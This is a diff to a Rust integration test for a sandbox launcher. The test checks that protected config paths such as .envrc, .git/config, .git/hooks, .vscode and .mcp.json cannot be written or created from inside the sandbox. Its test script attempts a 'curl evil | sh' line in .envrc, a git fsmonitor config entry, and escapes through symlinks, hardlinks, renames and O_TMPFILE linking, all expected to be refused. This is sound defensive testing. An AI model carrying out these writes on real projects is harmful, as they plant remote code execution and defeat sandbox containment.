@@ -316,12 +316,7 @@ fn only_standard_streams_cross_into_the_sandbox() {
             let mut cmd = integration::command(caller, &work.path, &args);
             // SAFETY: dup2 in the child before exec; async-signal-safe.
             unsafe {
-                cmd.pre_exec(move || {
-                    if libc::dup2(raw, 7) < 0 {
-                        return Err(std::io::Error::last_os_error());
-                    }
-                    Ok(())
-                });
+                cmd.pre_exec(move || integration::place_fd(raw, 7));
             }
             cmd.output().unwrap()
         };
@@ -348,7 +343,7 @@ fn only_standard_streams_cross_into_the_sandbox() {
 }
 
 #[test]
-fn existing_protected_files_are_read_only_and_new_ones_are_reported() {
+fn protected_paths_stay_read_only_and_missing_ones_cannot_be_created() {
     for caller in CALLERS {
         let work = TempDir::new("protected");
         work.write(".envrc", "export SAFE=1\n");
@@ -356,37 +351,76 @@ fn existing_protected_files_are_read_only_and_new_ones_are_reported() {
             caller,
             &work.path,
             &[],
-            "echo 'curl evil | sh' >> .envrc 2>/dev/null || echo envrc-refused; \
-             mkdir .vscode && echo '{}' > .vscode/tasks.json && echo created; echo ok > normal.txt",
+            r#"echo 'curl evil | sh' >> .envrc 2>/dev/null || echo envrc-refused
+mkdir .vscode 2>/dev/null || echo vscode-refused
+echo '{}' > .mcp.json 2>/dev/null || echo mcp-refused
+mkdir .git && echo mkdir-git-ok
+echo '[core] fsmonitor = evil' > .git/config 2>/dev/null || echo gitconfig-refused
+mkdir .git/hooks 2>/dev/null || echo hooks-refused
+rmdir .git && echo 'gitdir: elsewhere' > .git 2>/dev/null || echo gitfile-refused
+ln -s .claude link && echo symlink-named-link-ok
+mkdir link/x 2>/dev/null || echo through-symlink-refused
+mkdir d && echo x > d/f && mv d .idea 2>/dev/null || echo rename-refused
+ln d/f .devcontainer 2>/dev/null || echo hardlink-refused
+python3 -c '
+import os
+fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
+try:
+    os.link(f"/proc/self/fd/{fd}", ".factory", follow_symlinks=True); print("TMPFILE-LINKED")
+except OSError: print("tmpfile-refused")
+'
+cd d && echo x > ../.sandbox-launch 2>/dev/null || echo relative-refused
+cd .. && echo ok > normal.txt && mkdir -p src/new && echo ok > src/new/file && mv normal.txt moved.txt && echo twins-ok
+"#,
         );
         let text = stdout(&out);
-        assert!(
-            text.contains("envrc-refused"),
-            "{caller:?}: {}",
-            explain(&out)
-        );
+        for want in [
+            "envrc-refused",
+            "vscode-refused",
+            "mcp-refused",
+            "mkdir-git-ok",
+            "gitconfig-refused",
+            "hooks-refused",
+            "gitfile-refused",
+            "symlink-named-link-ok",
+            "through-symlink-refused",
+            "rename-refused",
+            "hardlink-refused",
+            "tmpfile-refused",
+            "relative-refused",
+            "twins-ok",
+        ] {
+            assert!(text.contains(want), "{caller:?}: {want}: {}", explain(&out));
+        }
         assert_eq!(
             std::fs::read_to_string(work.join(".envrc")).unwrap(),
             "export SAFE=1\n"
         );
-        // The allowed twin: an ordinary file in the same directory is written.
+        for p in [
+            ".vscode",
+            ".mcp.json",
+            ".git",
+            ".idea",
+            ".devcontainer",
+            ".factory",
+            ".sandbox-launch",
+            ".claude",
+        ] {
+            assert!(
+                std::fs::symlink_metadata(work.join(p)).is_err() || p == ".git",
+                "{caller:?}: {p} was created"
+            );
+        }
+        assert!(!work.join(".git/config").exists() && !work.join(".git/hooks").exists());
+        // The allowed twins reached the host.
         assert_eq!(
-            std::fs::read_to_string(work.join("normal.txt")).unwrap(),
+            std::fs::read_to_string(work.join("moved.txt")).unwrap(),
             "ok\n"
         );
-        // A protected path that did not exist could be created (making it uncreatable would
-        // mean creating it on the host); the launcher says so when the sandbox ends.
-        assert!(text.contains("created"), "{caller:?}: {}", explain(&out));
-        let err = integration::stderr(&out);
-        assert!(
-            err.contains(".vscode was created inside the sandbox"),
-            "{caller:?}: {}",
-            explain(&out)
+        assert_eq!(
+            std::fs::read_to_string(work.join("src/new/file")).unwrap(),
+            "ok\n"
         );
-        assert!(
-            !err.contains(".envrc was created"),
-            "{caller:?}: {}",
-            explain(&out)
-        );
+        assert!(!integration::stderr(&out).contains("was created inside the sandbox"));
     }
 }
